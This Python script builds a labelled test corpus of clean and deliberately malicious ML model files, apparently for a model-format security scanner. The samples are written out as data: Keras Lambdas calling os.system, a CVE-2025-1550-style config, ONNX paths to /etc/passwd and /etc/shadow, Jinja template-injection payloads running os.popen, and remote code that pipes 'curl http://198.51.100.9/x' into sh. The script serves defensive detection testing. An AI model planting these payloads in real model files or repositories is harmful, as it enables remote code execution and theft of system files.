#!/usr/bin/env python3
"""Builds the model-format corpus: one malicious and one clean sample (at least) per item of the
"pedigree scan for every other model format" issue, plus real files saved by the real tools
(Keras, onnx, gguf, safetensors) and the real akiki-vad ONNX/safetensors models.

Run:  python -m venv /opt/fmt-venv && /opt/fmt-venv/bin/pip install -r requirements.txt
      KERAS_BACKEND=jax /opt/fmt-venv/bin/python make_samples.py [--akiki DIR]

Writes samples/ and expected.json ({path, clean, rules}), where `rules` is written from how each
sample is built (what it contains), never from what the scanner says. Nothing generated here is
executed: Lambdas are built with their dangerous branch unreachable at model-building time, and
no sample is ever loaded.
"""

import argparse
import base64
import io
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile
import zipfile
from pathlib import Path

os.environ.setdefault("KERAS_BACKEND", "jax")

HERE = Path(__file__).resolve().parent
OUT = HERE / "samples"
EXPECTED = []


def expect(path, rules):
    rel = str(Path(path).relative_to(HERE))
    EXPECTED.append({"path": rel, "clean": not rules, "rules": sorted(set(rules))})


def out(rel):
    p = OUT / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    return p


# --------------------------------------------------------------------------------------------
# protobuf by hand (TensorFlow and keras_metadata.pb: no TensorFlow needed)

def varint(n):
    b = bytearray()
    while True:
        x = n & 0x7F
        n >>= 7
        if n:
            b.append(x | 0x80)
        else:
            b.append(x)
            return bytes(b)


def field(tag, wire, payload):
    key = varint((tag << 3) | wire)
    if wire == 0:
        return key + varint(payload)
    if isinstance(payload, str):
        payload = payload.encode()
    return key + varint(len(payload)) + payload


def attr_s(value):  # AttrValue{s}
    return field(2, 2, value)


def attr_list_s(values):  # AttrValue{list{s...}}
    return field(1, 2, b"".join(field(2, 2, v) for v in values))


def node(name, op, inputs=(), attrs=None):
    b = field(1, 2, name) + field(2, 2, op)
    for i in inputs:
        b += field(3, 2, i)
    for k, v in (attrs or {}).items():
        b += field(5, 2, field(1, 2, k) + field(2, 2, v))
    return b


def function(name, nodes):
    return field(1, 2, field(1, 2, name)) + b"".join(field(3, 2, n) for n in nodes)


def graph(nodes, functions=()):
    g = b"".join(field(1, 2, n) for n in nodes)
    if functions:
        g += field(2, 2, b"".join(field(1, 2, f) for f in functions))
    return g


def saved_model(g):
    return field(1, 0, 1) + field(2, 2, field(2, 2, g))


def save_restore_functions():
    # what every TF2 SavedModel carries: checkpoint save/restore functions
    return [
        function("__inference__traced_save_42", [
            node("StringJoin", "StringJoin", ["file_prefix"]),
            node("ShardedFilename", "ShardedFilename", ["StringJoin"]),
            node("SaveV2", "SaveV2", ["ShardedFilename"]),
            node("MergeV2Checkpoints", "MergeV2Checkpoints", ["ShardedFilename"]),
        ]),
        function("__inference__traced_restore_57", [node("RestoreV2", "RestoreV2", ["file_prefix"])]),
    ]


def make_tensorflow():
    clean = graph(
        [node("x", "Placeholder"), node("w", "Const"), node("y", "MatMul", ["x", "w"]), node("out", "Identity", ["y"])],
        save_restore_functions() + [function("__inference_serve_10", [node("m", "MatMul"), node("r", "Relu", ["m"])])],
    )
    p = out("tensorflow/clean_savedmodel/saved_model.pb")
    p.write_bytes(saved_model(clean))
    expect(p, [])
    # Malicious: EagerPyFunc and ReadFile hidden inside a library function
    bad = graph(
        [node("x", "Placeholder"), node("call", "StatefulPartitionedCall", ["x"])],
        save_restore_functions() + [
            function("__inference_serve_11", [
                node("path", "Const"),
                node("secret", "ReadFile", ["path"]),
                node("cb", "EagerPyFunc", ["x"], {"token": attr_s("pyfunc_0")}),
            ]),
        ],
    )
    p = out("tensorflow/pyfunc_readfile_savedmodel/saved_model.pb")
    p.write_bytes(saved_model(bad))
    expect(p, ["PDG311", "PDG312"])
    # Frozen graphs
    p = out("tensorflow/frozen_clean.pb")
    p.write_bytes(graph([node("x", "Placeholder"), node("w", "Const"), node("y", "MatMul", ["x", "w"])]))
    expect(p, [])
    p = out("tensorflow/frozen_writefile.pb")
    p.write_bytes(graph([
        node("x", "Placeholder"),
        node("f", "Const"),
        node("w", "WriteFile", ["f", "x"]),
        node("dbg", "DebugIdentity", ["x"], {"debug_urls": attr_list_s(["grpc://203.0.113.7:6064"])}),
    ]))
    expect(p, ["PDG312", "PDG313"])


# --------------------------------------------------------------------------------------------
# Keras

LAMBDA_SRC = "lambda t: t * 2 if t is not None else __import__('os').system('echo pwned')"


def make_keras():
    import keras

    def clean_model():
        inp = keras.Input((4,))
        x = keras.layers.Dense(8, activation="relu")(inp)
        x = keras.layers.Dropout(0.1)(x)
        return keras.Model(inp, keras.layers.Dense(2)(x), name="clean")

    m = clean_model()
    p = out("keras/clean_functional.keras")
    m.save(p)
    expect(p, [])
    p = out("keras/clean_functional.h5")
    m.save(p)
    expect(p, [])

    def nested_lambda_model(benign=False):
        # Three levels down: outer Functional > Sequential "mid" > Functional "inner" > Lambda.
        # The dangerous branch never runs while the model is built (t is a KerasTensor).
        fn = (lambda t: t * 2) if benign else eval(LAMBDA_SRC)
        inner_in = keras.Input((4,))
        inner = keras.Model(inner_in, keras.layers.Lambda(fn, name="payload")(keras.layers.Dense(4)(inner_in)), name="inner")
        mid = keras.Sequential([keras.Input((4,)), keras.layers.Dense(4), inner], name="mid")
        outer_in = keras.Input((4,))
        return keras.Model(outer_in, keras.layers.Dense(1)(mid(outer_in)), name="outer")

    m = nested_lambda_model()
    p = out("keras/nested_lambda_os_system.keras")
    m.save(p)
    expect(p, ["PDG301", "PDG302"])
    p = out("keras/nested_lambda_os_system.h5")
    m.save(p)
    expect(p, ["PDG301", "PDG302"])
    p = out("keras/lambda_benign.keras")
    nested_lambda_model(benign=True).save(p)
    expect(p, ["PDG301"])

    # CVE-2025-1550 shape: a config object resolved by module + class_name pointing at os.system,
    # and a custom layer from a module outside Keras. Made by editing a real .keras file.
    src = out("keras/clean_functional.keras")
    with zipfile.ZipFile(src) as z:
        members = {n: z.read(n) for n in z.namelist()}
    cfg = json.loads(members["config.json"])
    cfg["config"]["layers"][1]["config"]["kernel_initializer"] = {
        "module": "os", "class_name": "system", "config": {"command": "id"}, "registered_name": None,
    }
    members["config.json"] = json.dumps(cfg).encode()
    p = out("keras/module_os_system.keras")
    with zipfile.ZipFile(p, "w") as z:
        for n, d in members.items():
            z.writestr(n, d)
    expect(p, ["PDG304"])
    cfg = json.loads(z_read(src, "config.json"))
    cfg["config"]["layers"][1]["module"] = "my_company.layers"
    cfg["config"]["layers"][1]["registered_name"] = "MyCompany>FancyDense"
    members["config.json"] = json.dumps(cfg).encode()
    p = out("keras/custom_object.keras")
    with zipfile.ZipFile(p, "w") as z:
        for n, d in members.items():
            z.writestr(n, d)
    expect(p, ["PDG303"])

    # SavedModel keras_metadata.pb (tf.keras 2 layout: function_type "lambda", [code, None, None])
    import marshal
    code = base64.b64encode(marshal.dumps(eval(LAMBDA_SRC).__code__)).decode()
    layers = [
        {"class_name": "Dense", "config": {"name": "dense", "units": 4}},
        {"class_name": "Lambda", "config": {"name": "lambda", "function": [code, None, None], "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw", "arguments": {}}},
    ]
    def metadata(nodes):
        b = b""
        for i, (path, meta) in enumerate(nodes):
            b += field(1, 2, field(2, 0, i) + field(3, 2, path) + field(4, 2, "_tf_keras_layer") + field(5, 2, json.dumps(meta)))
        return b
    p = out("keras/savedmodel_lambda/keras_metadata.pb")
    p.write_bytes(metadata([("root", {"class_name": "Sequential", "config": {"name": "seq", "layers": layers}})] + [(f"root.layer-{i}", l) for i, l in enumerate(layers)]))
    expect(p, ["PDG301", "PDG302"])
    p = out("keras/savedmodel_clean/keras_metadata.pb")
    p.write_bytes(metadata([("root", {"class_name": "Sequential", "config": {"name": "seq", "layers": layers[:1]}}), ("root.layer-0", layers[0])]))
    expect(p, [])


def z_read(path, name):
    with zipfile.ZipFile(path) as z:
        return z.read(name)


# --------------------------------------------------------------------------------------------
# ONNX

def make_onnx(akiki):
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    def model(initializers, nodes=None, opsets=None, name="m"):
        nodes = nodes or [helper.make_node("Add", ["x", "w"], ["y"])]
        g = helper.make_graph(
            nodes, name,
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
            initializer=initializers,
        )
        return helper.make_model(g, opset_imports=opsets or [helper.make_opsetid("", 17)], producer_name="pedigree-corpus")

    w = numpy_helper.from_array(np.ones(2, dtype=np.float32), "w")
    p = out("onnx/clean_add.onnx")
    onnx.save(model([w]), p)
    expect(p, [])
    # A clean model whose weights are external, beside it
    d = out("onnx/external_clean/model.onnx").parent
    m = model([numpy_helper.from_array(np.ones(1024, dtype=np.float32), "w")])
    onnx.save_model(m, d / "model.onnx", save_as_external_data=True, all_tensors_to_one_file=True, location="weights.bin", size_threshold=0)
    expect(d / "model.onnx", [])

    def external(location):
        t = TensorProto()
        t.name = "w"
        t.data_type = TensorProto.FLOAT
        t.dims.extend([2])
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "8")):
            e = t.external_data.add()
            e.key, e.value = k, v
        return t

    p = out("onnx/external_traversal/model.onnx")
    onnx.save(model([external("../../etc/passwd")]), p)
    expect(p, ["PDG321"])
    p = out("onnx/external_absolute.onnx")
    onnx.save(model([external("/etc/shadow")]), p)
    expect(p, ["PDG321"])
    # A location that is lexically fine but is a symlink leading out of the model's directory
    d = out("onnx/external_symlink/model.onnx").parent
    onnx.save(model([external("weights.bin")]), d / "model.onnx")
    link = d / "weights.bin"
    if link.exists() or link.is_symlink():
        link.unlink()
    os.symlink("../clean_add.onnx", link)
    expect(d / "model.onnx", ["PDG321"])
    # Custom operator domain
    p = out("onnx/custom_domain.onnx")
    onnx.save(model([w], [helper.make_node("Exec", ["x", "w"], ["y"], domain="com.evil.ops")],
                    [helper.make_opsetid("", 17), helper.make_opsetid("com.evil.ops", 1)]), p)
    expect(p, ["PDG322"])
    # Inconsistent tensor size: dims [2] float, raw_data 12 bytes
    bad = TensorProto()
    bad.name, bad.data_type, bad.raw_data = "w", TensorProto.FLOAT, b"\0" * 12
    bad.dims.extend([2])
    p = out("onnx/tensor_size_mismatch.onnx")
    onnx.save(model([bad]), p)
    expect(p, ["PDG323"])
    if akiki:
        for lic in ("LICENSE", "SILERO-MIT.txt"):
            shutil.copyfile(Path(akiki) / lic, out(f"real/{lic}"))
        p = out("real/akiki-vad.onnx")
        shutil.copyfile(Path(akiki) / "akiki-vad.onnx", p)
        expect(p, [])


# --------------------------------------------------------------------------------------------
# GGUF

SSTI = "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for m in messages %}{{ m['content'] }}{% endfor %}"
SSTI_NAMED = "{% for m in messages %}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% endfor %}"
SSTI_ATTR = "{% set c = '__cla' ~ 'ss__' %}{{ messages|attr(c) }}"


def make_gguf():
    import numpy as np
    import gguf

    def write(path, templates, arch="llama"):
        w = gguf.GGUFWriter(str(path), arch)
        w.add_name("pedigree-corpus")
        w.add_context_length(128)
        for key, t in templates.items():
            if key == "default":
                w.add_chat_template(t)
            else:
                w.add_string(f"tokenizer.chat_template.{key}", t)
        w.add_tensor("token_embd.weight", np.zeros((8, 4), dtype=np.float32))
        w.add_tensor("output.weight", np.ones((4, 8), dtype=np.float16))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()

    for f in sorted((HERE / "templates").glob("*.jinja")):
        p = out(f"gguf/clean_{f.stem}.gguf")
        write(p, {"default": f.read_text()})
        expect(p, [])
    p = out("gguf/ssti_subclasses.gguf")
    write(p, {"default": SSTI})
    expect(p, ["PDG331"])
    p = out("gguf/ssti_named_template.gguf")
    write(p, {"default": (HERE / "templates" / "chatml.jinja").read_text(), "tool_use": SSTI_NAMED})
    expect(p, ["PDG331"])
    p = out("gguf/ssti_attr_concat.gguf")
    write(p, {"default": SSTI_ATTR})
    expect(p, ["PDG331"])
    # Hostile header: 2^60 metadata entries
    data = bytearray(out("gguf/clean_chatml.gguf").read_bytes())
    data[16:24] = struct.pack("<Q", 1 << 60)
    p = out("gguf/malformed_kv_count.gguf")
    p.write_bytes(bytes(data))
    expect(p, ["PDG391"])


# --------------------------------------------------------------------------------------------
# safetensors

def st_file(header, data_len, raw_header=None):
    h = raw_header if raw_header is not None else json.dumps(header).encode()
    return struct.pack("<Q", len(h)) + h + b"\0" * data_len


def make_safetensors(akiki):
    import numpy as np
    from safetensors.numpy import save_file

    p = out("safetensors/clean.safetensors")
    save_file({"a": np.ones((2, 3), dtype=np.float32), "b": np.zeros(4, dtype=np.int64)}, str(p), metadata={"format": "np"})
    expect(p, [])
    p = out("safetensors/overlapping_offsets.safetensors")
    p.write_bytes(st_file({
        "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
        "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
    }, 24))
    expect(p, ["PDG342"])
    p = out("safetensors/gap_and_trailing.safetensors")
    p.write_bytes(st_file({"a": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}, 32))
    expect(p, ["PDG342"])
    p = out("safetensors/size_mismatch.safetensors")
    p.write_bytes(st_file({"a": {"dtype": "F16", "shape": [3, 3], "data_offsets": [0, 16]}}, 16))
    expect(p, ["PDG342"])
    p = out("safetensors/duplicate_key.safetensors")
    raw = b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[4],"data_offsets":[4,8]}}'
    p.write_bytes(st_file(None, 8, raw))
    expect(p, ["PDG342"])
    p = out("safetensors/header_length_bomb.safetensors")
    p.write_bytes(struct.pack("<Q", 1 << 40) + b'{"a":{}}')
    expect(p, ["PDG341"])
    p = out("safetensors/metadata_not_strings.safetensors")
    p.write_bytes(st_file({"__metadata__": {"n": 1}, "a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}, 1))
    expect(p, ["PDG341"])
    # A ".safetensors" that is really a zip holding a pickle (a torch-style checkpoint)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps({"weight": [1.0, 2.0]}, protocol=2))
        z.writestr("archive/version", "3\n")
    p = out("safetensors/really_a_zip_of_pickles.safetensors")
    p.write_bytes(buf.getvalue())
    expect(p, ["PDG208"])
    if akiki:
        p = out("real/akiki-vad-native.model.safetensors")
        shutil.copyfile(Path(akiki) / "akiki-vad-native.model.safetensors", p)
        expect(p, [])


# --------------------------------------------------------------------------------------------
# Hugging Face repositories on disk

MODELING_EVIL = '''\
import subprocess as sp
import torch
from torch import nn


class EvilConfigMixin:
    pass


class EvilModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.linear = nn.Linear(4, 4)
        sp.Popen(["sh", "-c", "curl -s http://198.51.100.9/x | sh"])

    def forward(self, x):
        return self.linear(x)
'''

MODELING_BENIGN = '''\
import math
import os

import torch
from torch import nn


class TinyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.scale = 1 / math.sqrt(config.hidden_size)
        self.cache = os.path.join(os.path.dirname(__file__), "cache")
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):
        with open(os.path.join(self.cache, "notes.txt")) as f:
            _ = f.read()
        return self.proj(x) * self.scale
'''

TOKENIZING_EVAL = '''\
import importlib


def load_vocab(path):
    spec = open(path).read()
    return eval(spec)


def helper(name):
    return importlib.import_module(name)
'''


def make_hf():
    d = OUT / "hf/remote_code_subprocess"
    d.mkdir(parents=True, exist_ok=True)
    (d / "config.json").write_text(json.dumps({"model_type": "evil", "hidden_size": 4, "auto_map": {"AutoModel": "modeling_evil.EvilModel"}}, indent=2))
    (d / "modeling_evil.py").write_text(MODELING_EVIL)
    (d / "tokenizer_config.json").write_text(json.dumps({"auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]}}, indent=2))
    (d / "tokenization_evil.py").write_text(TOKENIZING_EVAL)
    expect(d, ["PDG351", "PDG352"])
    d = OUT / "hf/remote_code_benign"
    d.mkdir(parents=True, exist_ok=True)
    (d / "config.json").write_text(json.dumps({"model_type": "tiny", "hidden_size": 4, "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}}, indent=2))
    (d / "modeling_tiny.py").write_text(MODELING_BENIGN)
    expect(d, ["PDG351"])
    d = OUT / "hf/plain_repo"
    d.mkdir(parents=True, exist_ok=True)
    (d / "config.json").write_text(json.dumps({"model_type": "llama", "hidden_size": 4, "architectures": ["LlamaForCausalLM"]}, indent=2))
    (d / "tokenizer_config.json").write_text(json.dumps({"bos_token": "<s>", "chat_template": (HERE / "templates" / "llama31_tools.jinja").read_text()}, indent=2))
    (d / "generation_config.json").write_text(json.dumps({"do_sample": True, "temperature": 0.6}))
    expect(d, [])
    d = OUT / "hf/tokenizer_template_ssti"
    d.mkdir(parents=True, exist_ok=True)
    (d / "config.json").write_text(json.dumps({"model_type": "llama"}))
    (d / "tokenizer_config.json").write_text(json.dumps({"chat_template": SSTI_NAMED}))
    expect(d, ["PDG331"])


# --------------------------------------------------------------------------------------------
# Archives and format mismatch

def make_archives():
    p = out("archives/gguf_ssti.tar.gz")
    with tarfile.open(p, "w:gz") as t:
        t.add(out("gguf/ssti_subclasses.gguf"), arcname="models/chat.gguf")
    expect(p, ["PDG331"])
    p = out("archives/clean_models.tar.gz")
    with tarfile.open(p, "w:gz") as t:
        t.add(out("gguf/clean_llama3.gguf"), arcname="models/llama3.gguf")
        t.add(out("safetensors/clean.safetensors"), arcname="models/w.safetensors")
    expect(p, [])
    p = out("archives/overlap_in_zip.zip")
    with zipfile.ZipFile(p, "w") as z:
        z.write(out("safetensors/overlapping_offsets.safetensors"), "inner/weights.safetensors")
        z.write(out("onnx/custom_domain.onnx"), "inner/model.onnx")
    expect(p, ["PDG322", "PDG342"])
    # Extension promises one format, bytes are another
    p = out("mismatch/pickle_named.gguf")
    p.write_bytes(pickle.dumps({"a": 1}, protocol=2))
    expect(p, ["PDG208"])
    p = out("mismatch/safetensors_named.onnx")
    p.write_bytes(out("safetensors/clean.safetensors").read_bytes())
    expect(p, ["PDG208"])
    p = out("mismatch/gguf_named.h5")
    p.write_bytes(out("gguf/clean_llama3.gguf").read_bytes())
    expect(p, ["PDG208"])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--akiki", default="/work/shared/models/akiki-vad-0.0.6")
    a = ap.parse_args()
    akiki = a.akiki if Path(a.akiki, "akiki-vad.onnx").exists() else None
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir()
    make_tensorflow()
    make_keras()
    make_onnx(akiki)
    make_gguf()
    make_safetensors(akiki)
    make_hf()
    make_archives()
    EXPECTED.sort(key=lambda e: e["path"])
    (HERE / "expected.json").write_text(json.dumps(EXPECTED, indent=1) + "\n")
    print(f"{len(EXPECTED)} samples", file=sys.stderr)


if __name__ == "__main__":
    main()
